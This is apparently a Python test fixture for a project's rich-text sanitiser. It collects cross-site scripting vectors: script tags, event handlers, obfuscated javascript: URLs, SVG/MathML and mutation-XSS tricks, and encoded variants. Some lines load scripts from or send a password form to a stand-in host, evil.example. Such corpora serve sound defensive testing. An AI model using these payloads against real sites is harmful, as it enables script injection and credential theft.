"""A corpus of cross-site scripting vectors, for the rich-text sanitiser and the admin.

Written for this project, after the kinds of trick in OWASP's XSS filter-evasion cheat sheet and
similar public lists: script elements, event handlers on every kind of element, script URLs
spelled to slip past naive filters, other namespaces (SVG, MathML), styles, frames and plugins,
forms, markup the parser rewrites (mutation XSS), and broken or nested markup.

The payload is always the call `PAYLOAD`, so a test can look for it too. `encodings()` adds
variants of each script URL the way filter-evasion lists do (entities, hex, tabs, control
characters, mixed case) from the written-out base vectors.
"""

PAYLOAD = "alert(7)"
JS = "javascript:" + PAYLOAD

# Hand-written vectors, one per line, in the order of the categories above.
HANDWRITTEN = [
    # Script elements
    f"<script>{PAYLOAD}</script>",
    f"<SCRIPT>{PAYLOAD}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<script/src=data:,{PAYLOAD}></script>",
    f"<scr<script>ipt>{PAYLOAD}</scr</script>ipt>",
    f"<<script>{PAYLOAD}//<</script>",
    f'<script type="text/javascript">{PAYLOAD}</script>',
    f"<script>/*</script><p>*/{PAYLOAD}</p>",
    f"<p><script\n>{PAYLOAD}</script\n></p>",
    f'"><script>{PAYLOAD}</script>',
    f"</p><script>{PAYLOAD}</script><p>",
    f"<script\x00>{PAYLOAD}</script>",
    # Event handlers
    f'<img src="x" onerror="{PAYLOAD}">',
    f"<img src=x onerror={PAYLOAD}>",
    f'<IMG SRC=x ONERROR="{PAYLOAD}">',
    f"<img/src=x/onerror={PAYLOAD}>",
    f'<img src="x"onerror="{PAYLOAD}">',
    f"<img src=x onerror\t={PAYLOAD}>",
    f"<img src=x onerror\n={PAYLOAD}>",
    f'<img src="/media/a.png" onload="{PAYLOAD}">',
    f'<p onclick="{PAYLOAD}">tap</p>',
    f'<p onmouseover="{PAYLOAD}">hover</p>',
    f'<a href="/x" onfocus="{PAYLOAD}" autofocus>x</a>',
    f'<body onload="{PAYLOAD}">',
    f'<div onpointerenter="{PAYLOAD}">x</div>',
    f'<h2 onanimationstart="{PAYLOAD}">x</h2>',
    f'<table background="{JS}" onmouseenter="{PAYLOAD}"><tr><td>x</td></tr></table>',
    f'<td onclick="{PAYLOAD}">x</td>',
    f'<blockquote cite="{JS}" oncopy="{PAYLOAD}">x</blockquote>',
    f'<details open ontoggle="{PAYLOAD}">x</details>',
    f'<video><source onerror="{PAYLOAD}"></video>',
    f'<audio src=x onerror="{PAYLOAD}">',
    f'<input autofocus onfocus="{PAYLOAD}">',
    f'<marquee onstart="{PAYLOAD}">x</marquee>',
    f'<select autofocus onfocus="{PAYLOAD}"></select>',
    f'<textarea autofocus onfocus="{PAYLOAD}"></textarea>',
    f'<keygen autofocus onfocus="{PAYLOAD}">',
    f'<p style="x" onbeforecopy="{PAYLOAD}">x</p>',
    # Script URLs in links and pictures
    f'<a href="{JS}">x</a>',
    f'<a href="JaVaScRiPt:{PAYLOAD}">x</a>',
    f'<a href=" {JS}">x</a>',
    f'<a href="java\tscript:{PAYLOAD}">x</a>',
    f'<a href="java\nscript:{PAYLOAD}">x</a>',
    f'<a href="java\rscript:{PAYLOAD}">x</a>',
    f'<a href="&#106;avascript:{PAYLOAD}">x</a>',
    f'<a href="&#x6A;avascript:{PAYLOAD}">x</a>',
    f'<a href="javascript&colon;{PAYLOAD}">x</a>',
    '<a href="vbscript:msgbox(7)">x</a>',
    f'<a href="livescript:{PAYLOAD}">x</a>',
    f'<a href="data:text/html,<script>{PAYLOAD}</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==">x</a>',
    f'<img src="{JS}">',
    f'<img src="data:image/svg+xml,<svg onload={PAYLOAD}>">',
    f'<img dynsrc="{JS}">',
    f'<img lowsrc="{JS}">',
    f'<img srcset="{JS} 1x">',
    f'<a href="{JS}" title="fine">x</a>',
    f'<a xlink:href="{JS}">x</a>',
    f'<a href="/safe" formaction="{JS}">x</a>',
    f"<a href='{JS}'>x</a>",
    f"<a href=`{JS}`>x</a>",
    # SVG and MathML
    f"<svg onload={PAYLOAD}>",
    f"<svg><script>{PAYLOAD}</script></svg>",
    f'<svg><a xlink:href="{JS}"><text x="1" y="9">x</text></a></svg>',
    f'<svg><animate onbegin="{PAYLOAD}" attributeName="x" dur="1s"/></svg>',
    f'<svg><set attributeName="href" to="{JS}"/></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={PAYLOAD}>#x"/></svg>',
    f'<svg><foreignObject><p onclick="{PAYLOAD}">x</p></foreignObject></svg>',
    f'<math><maction actiontype="statusline" xlink:href="{JS}">x</maction></math>',
    f'<math href="{JS}">x</math>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={PAYLOAD}></style></mglyph></table></mtext></math>",
    # Styles
    f"<style>@import '{JS}';</style>",
    "<style>body{background:url(https://evil.example/track.gif)}</style>",
    f'<p style="background:url({JS})">x</p>',
    f'<p style="width:expression({PAYLOAD})">x</p>',
    '<p style="behavior:url(evil.htc)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    f'<link rel="stylesheet" href="{JS}">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Frames, plugins, documents
    f'<iframe src="{JS}"></iframe>',
    f'<iframe srcdoc="<script>{PAYLOAD}</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    f'<frameset><frame src="{JS}"></frameset>',
    '<object data="https://evil.example/x.swf"></object>',
    f'<object data="{JS}"></object>',
    '<embed src="https://evil.example/x.swf">',
    f'<embed src="data:image/svg+xml,<svg onload={PAYLOAD}>">',
    '<applet code="Evil.class"></applet>',
    f'<meta http-equiv="refresh" content="0;url={JS}">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    # Forms
    f'<form action="{JS}"><button>Send</button></form>',
    f'<form><button formaction="{JS}">Send</button></form>',
    '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
    f'<isindex action="{JS}" type="image">',
    '<input type="image" src="https://evil.example/pixel.gif">',
    # Markup the parser rewrites (mutation XSS)
    f'<noscript><p title="</noscript><img src=x onerror={PAYLOAD}>">',
    f"<template><script>{PAYLOAD}</script></template>",
    f"<xmp><img src=x onerror={PAYLOAD}></xmp>",
    f"<listing><img src=x onerror={PAYLOAD}></listing>",
    f"<plaintext><img src=x onerror={PAYLOAD}>",
    f"<noembed><img src=x onerror={PAYLOAD}></noembed>",
    f"<noframes><img src=x onerror={PAYLOAD}></noframes>",
    f"<textarea><img src=x onerror={PAYLOAD}></textarea>",
    f"<title><img src=x onerror={PAYLOAD}></title>",
    f"<!--<img src=x onerror={PAYLOAD}>-->",
    f"<!--><img src=x onerror={PAYLOAD}>-->",
    f"<![CDATA[><img src=x onerror={PAYLOAD}>]]>",
    f"<?xml version><img src=x onerror={PAYLOAD}>?>",
    f'<p title="--><img src=x onerror={PAYLOAD}>">x</p>',
    f"<table><tr><td><img src=x onerror={PAYLOAD}></td></tr></table>",
    f"<table><img src=x onerror={PAYLOAD}></table>",
    f'<ul><li><a href="{JS}">x</a></li></ul>',
    # Broken, nested and odd markup
    f'<img """><script>{PAYLOAD}</script>">',
    f'<a href="/" <script>{PAYLOAD}</script>>x</a>',
    f"<img src=x:{PAYLOAD} onerror=eval(src)>",
    f'<div><div><div><div><div><div><div><div><img src=x onerror="{PAYLOAD}"></div></div></div></div></div></div></div></div>',
    f"<p>\u202e<img src=x onerror={PAYLOAD}></p>",
    f"<p>&lt;script&gt;{PAYLOAD}&lt;/script&gt;</p>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#55;&#41;>",
    '<img src=x onerror="\\u0061lert(7)">',
    f'<a href="/x" style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="{PAYLOAD}">x</a>',
    '<a href="/x" target="_blank" rel="opener">x</a>',
    f'<h2 id="x" class="y" data-evil="{JS}">x</h2>',
    f'<img src="/media/a.png" alt="x" usemap="#m"><map name="m"><area href="{JS}"></map>',
]


def encodings(script_url=JS):
    """Ways filter-evasion lists spell a script URL, built from the plain one."""
    scheme, _, rest = script_url.partition(":")
    decimal = "".join(f"&#{ord(c)};" for c in scheme + ":")
    padded = "".join(f"&#{ord(c):07d}" for c in scheme + ":")
    hexa = "".join(f"&#x{ord(c):x};" for c in scheme + ":")
    return [
        decimal + rest,
        padded + rest,
        hexa + rest,
        "\x01\x02" + script_url,
        " \t\n" + script_url,
        "".join(c.upper() if i % 2 else c for i, c in enumerate(scheme)) + ":" + rest,
        scheme[:4] + "&#x09;" + scheme[4:] + ":" + rest,
        scheme[:4] + "&#x0A;" + scheme[4:] + ":" + rest,
        scheme[:4] + "&#x0D;" + scheme[4:] + ":" + rest,
        scheme[:4] + "\x00" + scheme[4:] + ":" + rest,
        scheme + "&#58;" + rest,
        scheme + "&#x3a;" + rest,
        "%6A%61%76%61%73%63%72%69%70%74:" + rest,
    ]


ENCODED = [f'<a href="{url}">x</a>' for url in encodings()] + [f'<img src="{url}">' for url in encodings()]

VECTORS = HANDWRITTEN + ENCODED
